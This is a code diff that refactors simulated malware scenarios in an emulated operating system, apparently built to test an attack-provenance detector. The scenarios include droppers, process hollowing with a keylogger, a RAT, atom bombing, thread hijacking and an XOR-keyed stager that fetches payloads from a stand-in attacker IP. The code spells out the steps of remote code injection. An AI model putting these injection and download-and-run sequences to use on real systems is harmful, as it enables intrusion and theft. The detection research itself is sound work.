@@ -7,11 +7,31 @@ namespace faros::attacks {
 
 namespace {
 
+using vm::Reg;
+
 Result<void> install_image(os::Machine& m, const std::string& path,
                            const Result<os::Image>& img) {
   if (!img.ok()) return Err<void>(img.error().message);
   m.kernel().vfs().create(path, img.value().serialize());
   return Ok();
+}
+
+// Installs `img` at `path` and spawns a process from it.
+Result<void> install_and_spawn(os::Machine& m, const std::string& path,
+                               const Result<os::Image>& img) {
+  if (auto r = install_image(m, path, img); !r.ok()) return r;
+  auto pid = m.kernel().spawn(path);
+  if (!pid.ok()) return Err<void>(pid.error().message);
+  return Ok();
+}
+
+// The attacker endpoint serving one response: `payload`, or nothing when
+// it failed to build.
+std::unique_ptr<os::EventSource> single_payload_c2(
+    const Result<Bytes>& payload) {
+  auto c2 = std::make_unique<C2Server>();
+  if (payload.ok()) c2->queue_response(payload.value());
+  return c2;
 }
 
 constexpr const char* kSampleDir = "C:/Users/victim/";
@@ -196,7 +216,7 @@ std::string ReflectiveDllScenario::name() const {
 
 Result<void> ReflectiveDllScenario::setup(os::Machine& m) {
   if (!victim_path_.empty()) {
-    auto r = install_image(m, victim_path_, build_idle_program(victim_));
+    auto r = install_and_spawn(m, victim_path_, build_idle_program(victim_));
     if (!r.ok()) return r;
   }
   InjectClientSpec spec;
@@ -207,18 +227,8 @@ Result<void> ReflectiveDllScenario::setup(os::Machine& m) {
     spec.dns_name = "c2.reverse-tcp.dns";
     m.kernel().add_dns(spec.dns_name, kAttackerIp);
   }
-  auto r = install_image(m, std::string(kSampleDir) + "inject_client.exe",
-                         build_inject_client(spec));
-  if (!r.ok()) return r;
-
-  if (!victim_path_.empty()) {
-    auto pid = m.kernel().spawn(victim_path_);
-    if (!pid.ok()) return Err<void>(pid.error().message);
-  }
-  auto pid =
-      m.kernel().spawn(std::string(kSampleDir) + "inject_client.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  return Ok();
+  return install_and_spawn(m, std::string(kSampleDir) + "inject_client.exe",
+                           build_inject_client(spec));
 }
 
 std::unique_ptr<os::EventSource> ReflectiveDllScenario::make_source() {
@@ -229,10 +239,7 @@ std::unique_ptr<os::EventSource> ReflectiveDllScenario::make_source() {
   spec.ending = variant_ == ReflectiveVariant::kReverseTcpDns
                     ? PayloadEnding::kExit
                     : PayloadEnding::kLoopForever;
-  auto payload = build_payload(spec);
-  auto c2 = std::make_unique<C2Server>();
-  if (payload.ok()) c2->queue_response(payload.value());
-  return c2;
+  return single_payload_c2(build_payload(spec));
 }
 
 // ---------------------------------------------------------------------------
@@ -244,19 +251,15 @@ Result<void> HollowingScenario::setup(os::Machine& m) {
   pspec.message = "svchost hollowed";
   pspec.erase_self = transient_;
   pspec.ending = PayloadEnding::kLoopForever;
-  pspec.keystrokes = 3;
   auto payload = build_payload(pspec);
   if (!payload.ok()) return Err<void>(payload.error().message);
 
   auto r = install_image(m, paths::kSvchost, build_idle_program("svchost.exe"));
   if (!r.ok()) return r;
-  r = install_image(m, std::string(kSampleDir) + "invoice.exe",
-                    build_hollow_loader(payload.value(), paths::kSvchost));
-  if (!r.ok()) return r;
-
   // The user "opens the attachment".
-  auto pid = m.kernel().spawn(std::string(kSampleDir) + "invoice.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
+  r = install_and_spawn(m, std::string(kSampleDir) + "invoice.exe",
+                        build_hollow_loader(payload.value(), paths::kSvchost));
+  if (!r.ok()) return r;
 
   // Keystrokes for the keylogger to steal.
   for (int i = 0; i < 3; ++i) {
@@ -272,23 +275,19 @@ Result<void> HollowingScenario::setup(os::Machine& m) {
 // RAT code/process injection.
 
 Result<void> RatInjectionScenario::setup(os::Machine& m) {
-  auto r = install_image(m, paths::kExplorer, build_idle_program("explorer.exe"));
+  auto r = install_and_spawn(m, paths::kExplorer,
+                             build_idle_program("explorer.exe"));
   if (!r.ok()) return r;
   r = install_image(m, paths::kHelper, build_helper_program());
   if (!r.ok()) return r;
   RatSpec spec;
   spec.name = rat_name_ + ".exe";
-  r = install_image(m, std::string(kSampleDir) + spec.name,
-                    build_rat_program(spec));
+  r = install_and_spawn(m, std::string(kSampleDir) + spec.name,
+                        build_rat_program(spec));
   if (!r.ok()) return r;
   m.kernel().vfs().create(paths::kSecretDoc,
                           Bytes{'t', 'o', 'p', '-', 's', 'e', 'c', 'r', 'e',
                                 't', '-', 'd', 'a', 't', 'a'});
-
-  auto pid = m.kernel().spawn(paths::kExplorer);
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  pid = m.kernel().spawn(std::string(kSampleDir) + spec.name);
-  if (!pid.ok()) return Err<void>(pid.error().message);
   return Ok();
 }
 
@@ -317,17 +316,11 @@ std::unique_ptr<os::EventSource> RatInjectionScenario::make_source() {
 // Multi-stage dropper chain.
 
 Result<void> DropperChainScenario::setup(os::Machine& m) {
-  using vm::Reg;
   // Stage 1: download stage 2, drop it to disk, run it.
   os::ImageBuilder ib("dropper.exe", os::kUserImageBase);
   auto& a = ib.asm_();
   a.label("_start");
-  emit_connect(a, kAttackerIp, kAttackerPort);
-  emit_send_label(a, "req", 3);
-  emit_alloc_self(a, 8192, os::kProtRead | os::kProtWrite);
-  a.mov(Reg::R9, Reg::R0);
-  emit_recv(a, Reg::R9, 8192);
-  a.mov(Reg::R8, Reg::R0);  // stage-2 size
+  emit_download(a, kGetRequest, 8192);  // r8 = stage-2 size
   a.movi_label(Reg::R1, "drop_path");
   emit_sys(a, os::Sys::kNtCreateFile);
   a.mov(Reg::R7, Reg::R0);
@@ -341,23 +334,13 @@ Result<void> DropperChainScenario::setup(os::Machine& m) {
   a.movi(Reg::R2, 0);
   emit_sys(a, os::Sys::kNtCreateProcess);
   emit_exit(a, 0);
-  a.align(8);
-  a.label("req");
-  a.data_str("GET", false);
-  a.align(8);
-  a.label("drop_path");
-  a.data_str("C:/Temp/update.exe");
-  auto img = ib.build();
-  if (!img.ok()) return Err<void>(img.error().message);
-  m.kernel().vfs().create(std::string(kSampleDir) + "dropper.exe",
-                          img.value().serialize());
-  auto pid = m.kernel().spawn(std::string(kSampleDir) + "dropper.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  return Ok();
+  emit_request_data(a);
+  emit_data_str(a, "drop_path", "C:/Temp/update.exe");
+  return install_and_spawn(m, std::string(kSampleDir) + "dropper.exe",
+                           ib.build());
 }
 
 std::unique_ptr<os::EventSource> DropperChainScenario::make_source() {
-  using vm::Reg;
   // Stage 2: a full SX32 executable that resolves MessageBoxA by walking
   // the export tables inline, announces itself, then idles.
   os::ImageBuilder ib("update.exe", os::kUserImageBase);
@@ -372,33 +355,25 @@ std::unique_ptr<os::EventSource> DropperChainScenario::make_source() {
   a.label("spin");
   emit_sys(a, os::Sys::kNtYield);
   a.jmp("spin");
-  a.align(8);
-  a.label("msg");
-  a.data_str("stage two alive!", false);
+  emit_data_str(a, "msg", "stage two alive!", /*nul_terminate=*/false);
   auto img = ib.build();
-
-  auto c2 = std::make_unique<C2Server>();
-  if (img.ok()) c2->queue_response(img.value().serialize());
-  return c2;
+  if (!img.ok()) return single_payload_c2(img.error());
+  return single_payload_c2(img.value().serialize());
 }
 
 // ---------------------------------------------------------------------------
 // IPC relay through a loopback socket.
 
 Result<void> IpcRelayScenario::setup(os::Machine& m) {
-  using vm::Reg;
   constexpr u16 kServicePort = 9000;
+  m.kernel().add_dns("localhost", m.kernel().net().guest_ip());
 
   // Backend: binds the service port, receives a code blob, runs it.
   {
     os::ImageBuilder ib("backend.exe", os::kUserImageBase);
     auto& a = ib.asm_();
     a.label("_start");
-    emit_sys(a, os::Sys::kNtSocket);
-    a.mov(Reg::R10, Reg::R0);
-    a.mov(Reg::R1, Reg::R10);
-    a.movi(Reg::R2, kServicePort);
-    emit_sys(a, os::Sys::kNtBind);
+    emit_bind(a, kServicePort);
     emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
     a.mov(Reg::R9, Reg::R0);
     emit_recv(a, Reg::R9, 4096);
@@ -406,73 +381,42 @@ Result<void> IpcRelayScenario::setup(os::Machine& m) {
     emit_alloc_self(a, 4096,
                     os::kProtRead | os::kProtWrite | os::kProtExec);
     a.mov(Reg::R6, Reg::R0);
-    a.movi(Reg::R4, 0);
-    a.label("cp");
-    a.cmp(Reg::R4, Reg::R8);
-    a.bgeu("cpd");
-    a.add(Reg::R5, Reg::R9, Reg::R4);
-    a.ld8(Reg::R7, Reg::R5, 0);
-    a.add(Reg::R5, Reg::R6, Reg::R4);
-    a.st8(Reg::R5, 0, Reg::R7);
-    a.addi(Reg::R4, Reg::R4, 1);
-    a.jmp("cp");
-    a.label("cpd");
+    emit_copy_loop(a);
     a.callr(Reg::R6);
     emit_exit(a, 0);
-    auto img = ib.build();
-    if (!img.ok()) return Err<void>(img.error().message);
-    m.kernel().vfs().create(std::string(kSampleDir) + "backend.exe",
-                            img.value().serialize());
+    auto r = install_and_spawn(m, std::string(kSampleDir) + "backend.exe",
+                               ib.build());
+    if (!r.ok()) return r;
   }
   // Frontend: downloads the payload, relays it to the backend over
   // loopback.
-  {
-    os::ImageBuilder ib("frontend.exe", os::kUserImageBase);
-    auto& a = ib.asm_();
-    a.label("_start");
-    emit_connect(a, kAttackerIp, kAttackerPort);
-    emit_send_label(a, "req", 3);
-    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
-    a.mov(Reg::R9, Reg::R0);
-    emit_recv(a, Reg::R9, 4096);
-    a.mov(Reg::R8, Reg::R0);
-    // Loopback connection to the backend service.
-    emit_sys(a, os::Sys::kNtSocket);
-    a.mov(Reg::R11, Reg::R0);
-    a.mov(Reg::R1, Reg::R11);
-    a.movi(Reg::R2, 0);  // placeholder; patched via guest ip below
-    // The guest's own IP is not an immediate the program knows; use the
-    // kernel-reported value through NtResolveHost("localhost").
-    a.movi_label(Reg::R1, "lo");
-    emit_sys(a, os::Sys::kNtResolveHost);
-    a.mov(Reg::R12, Reg::R0);
-    a.mov(Reg::R1, Reg::R11);
-    a.mov(Reg::R2, Reg::R12);
-    a.movi(Reg::R3, kServicePort);
-    emit_sys(a, os::Sys::kNtConnect);
-    a.mov(Reg::R1, Reg::R11);
-    a.mov(Reg::R2, Reg::R9);
-    a.mov(Reg::R3, Reg::R8);
-    emit_sys(a, os::Sys::kNtSend);
-    emit_exit(a, 0);
-    a.align(8);
-    a.label("req");
-    a.data_str("GET", false);
-    a.align(8);
-    a.label("lo");
-    a.data_str("localhost");
-    auto img = ib.build();
-    if (!img.ok()) return Err<void>(img.error().message);
-    m.kernel().vfs().create(std::string(kSampleDir) + "frontend.exe",
-                            img.value().serialize());
-  }
-  m.kernel().add_dns("localhost", m.kernel().net().guest_ip());
-
-  auto pid = m.kernel().spawn(std::string(kSampleDir) + "backend.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  pid = m.kernel().spawn(std::string(kSampleDir) + "frontend.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  return Ok();
+  os::ImageBuilder ib("frontend.exe", os::kUserImageBase);
+  auto& a = ib.asm_();
+  a.label("_start");
+  emit_download(a);
+  // Loopback connection to the backend service.
+  emit_sys(a, os::Sys::kNtSocket);
+  a.mov(Reg::R11, Reg::R0);
+  a.mov(Reg::R1, Reg::R11);
+  a.movi(Reg::R2, 0);  // placeholder; patched via guest ip below
+  // The guest's own IP is not an immediate the program knows; use the
+  // kernel-reported value through NtResolveHost("localhost").
+  a.movi_label(Reg::R1, "lo");
+  emit_sys(a, os::Sys::kNtResolveHost);
+  a.mov(Reg::R12, Reg::R0);
+  a.mov(Reg::R1, Reg::R11);
+  a.mov(Reg::R2, Reg::R12);
+  a.movi(Reg::R3, kServicePort);
+  emit_sys(a, os::Sys::kNtConnect);
+  a.mov(Reg::R1, Reg::R11);
+  a.mov(Reg::R2, Reg::R9);
+  a.mov(Reg::R3, Reg::R8);
+  emit_sys(a, os::Sys::kNtSend);
+  emit_exit(a, 0);
+  emit_request_data(a);
+  emit_data_str(a, "lo", "localhost");
+  return install_and_spawn(m, std::string(kSampleDir) + "frontend.exe",
+                           ib.build());
 }
 
 std::unique_ptr<os::EventSource> IpcRelayScenario::make_source() {
@@ -480,17 +424,13 @@ std::unique_ptr<os::EventSource> IpcRelayScenario::make_source() {
   spec.action = PayloadAction::kMessageBox;
   spec.message = "relayed payload in backend.exe";
   spec.ending = PayloadEnding::kExit;
-  auto payload = build_payload(spec);
-  auto c2 = std::make_unique<C2Server>();
-  if (payload.ok()) c2->queue_response(payload.value());
-  return c2;
+  return single_payload_c2(build_payload(spec));
 }
 
 // ---------------------------------------------------------------------------
 // Atom bombing.
 
 Result<void> AtomBombingScenario::setup(os::Machine& m) {
-  using vm::Reg;
   constexpr u16 kPumpPort = 7777;
   const u32 guest_ip = m.kernel().net().guest_ip();
 
@@ -501,11 +441,7 @@ Result<void> AtomBombingScenario::setup(os::Machine& m) {
     os::ImageBuilder ib("winlogon.exe", os::kUserImageBase);
     auto& a = ib.asm_();
     a.label("_start");
-    emit_sys(a, os::Sys::kNtSocket);
-    a.mov(Reg::R10, Reg::R0);
-    a.mov(Reg::R1, Reg::R10);
-    a.movi(Reg::R2, kPumpPort);
-    emit_sys(a, os::Sys::kNtBind);
+    emit_bind(a, kPumpPort);
     a.movi_label(Reg::R9, "msgbuf");
     emit_recv(a, Reg::R9, 4);  // the "window message": an atom id
     a.ld32(Reg::R8, Reg::R9, 0);
@@ -521,57 +457,39 @@ Result<void> AtomBombingScenario::setup(os::Machine& m) {
     a.align(8);
     a.label("msgbuf");
     a.zeros(8);
-    auto img = ib.build();
-    if (!img.ok()) return Err<void>(img.error().message);
-    m.kernel().vfs().create(paths::kExplorer, img.value().serialize());
+    auto r = install_and_spawn(m, paths::kExplorer, ib.build());
+    if (!r.ok()) return r;
   }
   // Attacker: downloads the payload, stages it as a global atom, posts the
   // atom id to the victim's pump.
-  {
-    os::ImageBuilder ib("atom_bomber.exe", os::kUserImageBase);
-    auto& a = ib.asm_();
-    a.label("_start");
-    emit_connect(a, kAttackerIp, kAttackerPort);
-    emit_send_label(a, "req", 3);
-    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
-    a.mov(Reg::R9, Reg::R0);
-    emit_recv(a, Reg::R9, 4096);
-    a.mov(Reg::R8, Reg::R0);
-    // Stage the payload in the atom table.
-    a.mov(Reg::R1, Reg::R9);
-    a.mov(Reg::R2, Reg::R8);
-    emit_sys(a, os::Sys::kNtAddAtom);
-    a.movi_label(Reg::R5, "idbuf");
-    a.st32(Reg::R5, 0, Reg::R0);
-    // Post the atom id to the victim's message pump (loopback).
-    emit_sys(a, os::Sys::kNtSocket);
-    a.mov(Reg::R11, Reg::R0);
-    a.mov(Reg::R1, Reg::R11);
-    a.movi(Reg::R2, guest_ip);
-    a.movi(Reg::R3, kPumpPort);
-    emit_sys(a, os::Sys::kNtConnect);
-    a.mov(Reg::R1, Reg::R11);
-    a.movi_label(Reg::R2, "idbuf");
-    a.movi(Reg::R3, 4);
-    emit_sys(a, os::Sys::kNtSend);
-    emit_exit(a, 0);
-    a.align(8);
-    a.label("req");
-    a.data_str("GET", false);
-    a.align(8);
-    a.label("idbuf");
-    a.zeros(8);
-    auto img = ib.build();
-    if (!img.ok()) return Err<void>(img.error().message);
-    m.kernel().vfs().create(std::string(kSampleDir) + "atom_bomber.exe",
-                            img.value().serialize());
-  }
-
-  auto pid = m.kernel().spawn(paths::kExplorer);  // winlogon victim image
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  pid = m.kernel().spawn(std::string(kSampleDir) + "atom_bomber.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  return Ok();
+  os::ImageBuilder ib("atom_bomber.exe", os::kUserImageBase);
+  auto& a = ib.asm_();
+  a.label("_start");
+  emit_download(a);
+  // Stage the payload in the atom table.
+  a.mov(Reg::R1, Reg::R9);
+  a.mov(Reg::R2, Reg::R8);
+  emit_sys(a, os::Sys::kNtAddAtom);
+  a.movi_label(Reg::R5, "idbuf");
+  a.st32(Reg::R5, 0, Reg::R0);
+  // Post the atom id to the victim's message pump (loopback).
+  emit_sys(a, os::Sys::kNtSocket);
+  a.mov(Reg::R11, Reg::R0);
+  a.mov(Reg::R1, Reg::R11);
+  a.movi(Reg::R2, guest_ip);
+  a.movi(Reg::R3, kPumpPort);
+  emit_sys(a, os::Sys::kNtConnect);
+  a.mov(Reg::R1, Reg::R11);
+  a.movi_label(Reg::R2, "idbuf");
+  a.movi(Reg::R3, 4);
+  emit_sys(a, os::Sys::kNtSend);
+  emit_exit(a, 0);
+  emit_request_data(a);
+  a.align(8);
+  a.label("idbuf");
+  a.zeros(8);
+  return install_and_spawn(m, std::string(kSampleDir) + "atom_bomber.exe",
+                           ib.build());
 }
 
 std::unique_ptr<os::EventSource> AtomBombingScenario::make_source() {
@@ -579,10 +497,7 @@ std::unique_ptr<os::EventSource> AtomBombingScenario::make_source() {
   spec.action = PayloadAction::kMessageBox;
   spec.message = "atom-bombed payload in winlogon.exe";
   spec.ending = PayloadEnding::kExit;
-  auto payload = build_payload(spec);
-  auto c2 = std::make_unique<C2Server>();
-  if (payload.ok()) c2->queue_response(payload.value());
-  return c2;
+  return single_payload_c2(build_payload(spec));
 }
 
 // ---------------------------------------------------------------------------
@@ -596,17 +511,11 @@ constexpr u8 kStageKey[8] = {0x5a, 0xa5, 0x3c, 0xc3, 0x96, 0x69, 0x0f, 0xf0};
 }  // namespace
 
 Result<void> MultiStageC2Scenario::setup(os::Machine& m) {
-  using vm::Reg;
   os::ImageBuilder ib("stager.exe", os::kUserImageBase);
   auto& a = ib.asm_();
   a.label("_start");
   // Stage 1: encoded payload from the primary endpoint.
-  emit_connect(a, kAttackerIp, kAttackerPort);
-  emit_send_label(a, "req", 3);
-  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
-  a.mov(Reg::R9, Reg::R0);
-  emit_recv(a, Reg::R9, 4096);
-  a.mov(Reg::R8, Reg::R0);
+  emit_download(a);
   // Stage 2: the 8-byte XOR key from the second endpoint.
   emit_connect(a, kAttackerIp, kKeyServerPort);
   emit_send_label(a, "key", 3);
@@ -634,22 +543,13 @@ Result<void> MultiStageC2Scenario::setup(os::Machine& m) {
   a.label("decd");
   a.callr(Reg::R6);  // R9 still holds the stage-1 buffer for the payload
   emit_exit(a, 0);
-  a.align(8);
-  a.label("req");
-  a.data_str("GET", false);
-  a.align(8);
-  a.label("key");
-  a.data_str("KEY", false);
-  auto r = install_image(m, std::string(kSampleDir) + "stager.exe",
-                         ib.build());
-  if (!r.ok()) return r;
-  auto pid = m.kernel().spawn(std::string(kSampleDir) + "stager.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  return Ok();
+  emit_request_data(a);
+  emit_data_str(a, "key", "KEY", /*nul_terminate=*/false);
+  return install_and_spawn(m, std::string(kSampleDir) + "stager.exe",
+                           ib.build());
 }
 
 std::unique_ptr<os::EventSource> MultiStageC2Scenario::make_source() {
-  using vm::Reg;
   // Tiny position-independent payload: one load from the (still tainted)
   // stage-1 buffer, then return to the stager. That load is the trigger a
   // "fetch distinct-netflows>=2" rule fires on — the *code* doing it was
@@ -679,9 +579,9 @@ std::unique_ptr<os::EventSource> MultiStageC2Scenario::make_source() {
 // Thread hijacking: suspend a *running* victim, redirect its context.
 
 Result<void> ThreadHijackScenario::setup(os::Machine& m) {
-  using vm::Reg;
-  auto r = install_image(m, "C:/Windows/taskhost.exe",
-                         build_idle_program("taskhost.exe"));
+  // Victim first: it must already be running when the hijacker suspends it.
+  auto r = install_and_spawn(m, "C:/Windows/taskhost.exe",
+                             build_idle_program("taskhost.exe"));
   if (!r.ok()) return r;
 
   // The hijacker: download, then the SetThreadContext sequence — suspend,
@@ -691,48 +591,13 @@ Result<void> ThreadHijackScenario::setup(os::Machine& m) {
   os::ImageBuilder ib("hijacker.exe", os::kUserImageBase);
   auto& a = ib.asm_();
   a.label("_start");
-  emit_connect(a, kAttackerIp, kAttackerPort);
-  emit_send_label(a, "req", 3);
-  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
-  a.mov(Reg::R9, Reg::R0);
-  emit_recv(a, Reg::R9, 4096);
-  a.mov(Reg::R8, Reg::R0);  // payload length
-  a.movi_label(Reg::R1, "target");
-  emit_sys(a, os::Sys::kNtOpenProcessByName);
-  a.mov(Reg::R7, Reg::R0);
-  a.mov(Reg::R1, Reg::R7);
-  emit_sys(a, os::Sys::kNtSuspendProcess);
-  a.mov(Reg::R1, Reg::R7);
-  a.movi(Reg::R2, 4096);
-  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
-  emit_sys(a, os::Sys::kNtAllocateVirtualMemory);
-  a.mov(Reg::R6, Reg::R0);
-  a.mov(Reg::R1, Reg::R7);
-  a.mov(Reg::R2, Reg::R6);
-  a.mov(Reg::R3, Reg::R9);
-  a.mov(Reg::R4, Reg::R8);
-  emit_sys(a, os::Sys::kNtWriteVirtualMemory);
-  a.mov(Reg::R1, Reg::R7);
-  a.mov(Reg::R2, Reg::R6);
-  emit_sys(a, os::Sys::kNtSetEntryPoint);
-  a.mov(Reg::R1, Reg::R7);
-  emit_sys(a, os::Sys::kNtResumeProcess);
+  emit_download(a);
+  emit_remote_inject(a, /*suspend=*/true, /*pc_relative=*/false);
   emit_exit(a, 0);
-  a.align(8);
-  a.label("req");
-  a.data_str("GET", false);
-  a.align(8);
-  a.label("target");
-  a.data_str("taskhost.exe");
-  r = install_image(m, std::string(kSampleDir) + "hijacker.exe", ib.build());
-  if (!r.ok()) return r;
-
-  // Victim first: it must already be running when the hijacker suspends it.
-  auto pid = m.kernel().spawn("C:/Windows/taskhost.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  pid = m.kernel().spawn(std::string(kSampleDir) + "hijacker.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  return Ok();
+  emit_request_data(a);
+  emit_data_str(a, "target", "taskhost.exe");
+  return install_and_spawn(m, std::string(kSampleDir) + "hijacker.exe",
+                           ib.build());
 }
 
 std::unique_ptr<os::EventSource> ThreadHijackScenario::make_source() {
@@ -740,22 +605,20 @@ std::unique_ptr<os::EventSource> ThreadHijackScenario::make_source() {
   spec.action = PayloadAction::kMessageBox;
   spec.message = "hijacked payload in taskhost.exe";
   spec.ending = PayloadEnding::kLoopForever;  // stays resident at snapshot
-  auto payload = build_payload(spec);
-  auto c2 = std::make_unique<C2Server>();
-  if (payload.ok()) c2->queue_response(payload.value());
-  return c2;
+  return single_payload_c2(build_payload(spec));
 }
 
 // ---------------------------------------------------------------------------
 // A -> B -> C injection relay.
 
 Result<void> InjectionRelayScenario::setup(os::Machine& m) {
-  using vm::Reg;
-  auto r = install_image(m, "C:/Windows/relay.exe",
-                         build_idle_program("relay.exe"));
+  // Both victims must already be running; relay is hijacked by stage0, and
+  // conhost by the stub running inside relay.
+  auto r = install_and_spawn(m, "C:/Windows/relay.exe",
+                             build_idle_program("relay.exe"));
   if (!r.ok()) return r;
-  r = install_image(m, "C:/Windows/conhost.exe",
-                    build_idle_program("conhost.exe"));
+  r = install_and_spawn(m, "C:/Windows/conhost.exe",
+                        build_idle_program("conhost.exe"));
   if (!r.ok()) return r;
 
   // Stage 0: downloads the combined [stub][payload] blob and thread-hijacks
@@ -764,55 +627,16 @@ Result<void> InjectionRelayScenario::setup(os::Machine& m) {
   os::ImageBuilder ib("stage0.exe", os::kUserImageBase);
   auto& a = ib.asm_();
   a.label("_start");
-  emit_connect(a, kAttackerIp, kAttackerPort);
-  emit_send_label(a, "req", 3);
-  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
-  a.mov(Reg::R9, Reg::R0);
-  emit_recv(a, Reg::R9, 4096);
-  a.mov(Reg::R8, Reg::R0);  // blob length
-  a.movi_label(Reg::R1, "target");
-  emit_sys(a, os::Sys::kNtOpenProcessByName);
-  a.mov(Reg::R7, Reg::R0);
-  a.mov(Reg::R1, Reg::R7);
-  emit_sys(a, os::Sys::kNtSuspendProcess);
-  a.mov(Reg::R1, Reg::R7);
-  a.movi(Reg::R2, 4096);
-  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
-  emit_sys(a, os::Sys::kNtAllocateVirtualMemory);
-  a.mov(Reg::R6, Reg::R0);
-  a.mov(Reg::R1, Reg::R7);
-  a.mov(Reg::R2, Reg::R6);
-  a.mov(Reg::R3, Reg::R9);
-  a.mov(Reg::R4, Reg::R8);
-  emit_sys(a, os::Sys::kNtWriteVirtualMemory);
-  a.mov(Reg::R1, Reg::R7);
-  a.mov(Reg::R2, Reg::R6);
-  emit_sys(a, os::Sys::kNtSetEntryPoint);
-  a.mov(Reg::R1, Reg::R7);
-  emit_sys(a, os::Sys::kNtResumeProcess);
+  emit_download(a);
+  emit_remote_inject(a, /*suspend=*/true, /*pc_relative=*/false);
   emit_exit(a, 0);
-  a.align(8);
-  a.label("req");
-  a.data_str("GET", false);
-  a.align(8);
-  a.label("target");
-  a.data_str("relay.exe");
-  r = install_image(m, std::string(kSampleDir) + "stage0.exe", ib.build());
-  if (!r.ok()) return r;
-
-  // Both victims must already be running; relay is hijacked by stage0, and
-  // conhost by the stub running inside relay.
-  auto pid = m.kernel().spawn("C:/Windows/relay.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  pid = m.kernel().spawn("C:/Windows/conhost.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  pid = m.kernel().spawn(std::string(kSampleDir) + "stage0.exe");
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  return Ok();
+  emit_request_data(a);
+  emit_data_str(a, "target", "relay.exe");
+  return install_and_spawn(m, std::string(kSampleDir) + "stage0.exe",
+                           ib.build());
 }
 
 std::unique_ptr<os::EventSource> InjectionRelayScenario::make_source() {
-  using vm::Reg;
   // The final payload (runs in conhost.exe, hop C): an export-walking
   // MessageBox — the one confluence trigger of the whole chain.
   PayloadSpec spec;
@@ -820,7 +644,7 @@ std::unique_ptr<os::EventSource> InjectionRelayScenario::make_source() {
   spec.message = "relayed payload in conhost.exe";
   spec.ending = PayloadEnding::kLoopForever;
   auto payload = build_payload(spec);
-  if (!payload.ok()) return std::make_unique<C2Server>();
+  if (!payload.ok()) return single_payload_c2(payload);
 
   // The relay stub (runs in relay.exe, hop B): position-independent code
   // that re-injects the payload embedded in its own blob into conhost.exe
@@ -832,41 +656,16 @@ std::unique_ptr<os::EventSource> InjectionRelayScenario::make_source() {
   sa.addpc_label(Reg::R9, "payload");
   sa.addpc_label(Reg::R5, "plen");
   sa.ld32(Reg::R8, Reg::R5, 0);
-  sa.addpc_label(Reg::R1, "cname");
-  emit_sys(sa, os::Sys::kNtOpenProcessByName);
-  sa.mov(Reg::R7, Reg::R0);
-  sa.mov(Reg::R1, Reg::R7);
-  emit_sys(sa, os::Sys::kNtSuspendProcess);
-  sa.mov(Reg::R1, Reg::R7);
-  sa.movi(Reg::R2, 4096);
-  sa.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
-  emit_sys(sa, os::Sys::kNtAllocateVirtualMemory);
-  sa.mov(Reg::R6, Reg::R0);
-  sa.mov(Reg::R1, Reg::R7);
-  sa.mov(Reg::R2, Reg::R6);
-  sa.mov(Reg::R3, Reg::R9);
-  sa.mov(Reg::R4, Reg::R8);
-  emit_sys(sa, os::Sys::kNtWriteVirtualMemory);
-  sa.mov(Reg::R1, Reg::R7);
-  sa.mov(Reg::R2, Reg::R6);
-  emit_sys(sa, os::Sys::kNtSetEntryPoint);
-  sa.mov(Reg::R1, Reg::R7);
-  emit_sys(sa, os::Sys::kNtResumeProcess);
+  emit_remote_inject(sa, /*suspend=*/true, /*pc_relative=*/true);
   emit_exit(sa, 0);
   sa.align(8);
   sa.label("plen");
   sa.data_u32(static_cast<u32>(payload.value().size()));
-  sa.align(8);
-  sa.label("cname");
-  sa.data_str("conhost.exe");
+  emit_data_str(sa, "target", "conhost.exe");
   sa.align(8);
   sa.label("payload");
   sa.data(ByteSpan(payload.value().data(), payload.value().size()));
-  auto blob = sa.assemble(0);
-
-  auto c2 = std::make_unique<C2Server>();
-  if (blob.ok()) c2->queue_response(blob.value());
-  return c2;
+  return single_payload_c2(sa.assemble(0));
 }
 
 // ---------------------------------------------------------------------------
@@ -880,11 +679,6 @@ Result<void> BehaviorScenario::setup(os::Machine& m) {
   m.kernel().vfs().create(paths::kReportDoc,
                           Bytes(64, static_cast<u8>('r')));
 
-  std::string image_name = sample_name_;
-  r = install_image(m, std::string(kSampleDir) + image_name,
-                    build_behavior_program(image_name, behaviors_));
-  if (!r.ok()) return r;
-
   for (Behavior b : behaviors_) {
     u32 dev = 0;
     u32 chunks = behavior_device_chunks(b, &dev);
@@ -894,10 +688,8 @@ Result<void> BehaviorScenario::setup(os::Machine& m) {
       m.inject_device(dev, data);
     }
   }
-
-  auto pid = m.kernel().spawn(std::string(kSampleDir) + image_name);
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  return Ok();
+  return install_and_spawn(m, std::string(kSampleDir) + sample_name_,
+                           build_behavior_program(sample_name_, behaviors_));
 }
 
 std::unique_ptr<os::EventSource> BehaviorScenario::make_source() {
@@ -918,12 +710,8 @@ std::unique_ptr<os::EventSource> BehaviorScenario::make_source() {
 // Table III JIT workloads.
 
 Result<void> JitScenario::setup(os::Machine& m) {
-  auto r = install_image(m, std::string(kSampleDir) + host_,
-                         build_jit_host(host_));
-  if (!r.ok()) return r;
-  auto pid = m.kernel().spawn(std::string(kSampleDir) + host_);
-  if (!pid.ok()) return Err<void>(pid.error().message);
-  return Ok();
+  return install_and_spawn(m, std::string(kSampleDir) + host_,
+                           build_jit_host(host_));
 }
 
 std::unique_ptr<os::EventSource> JitScenario::make_source() {
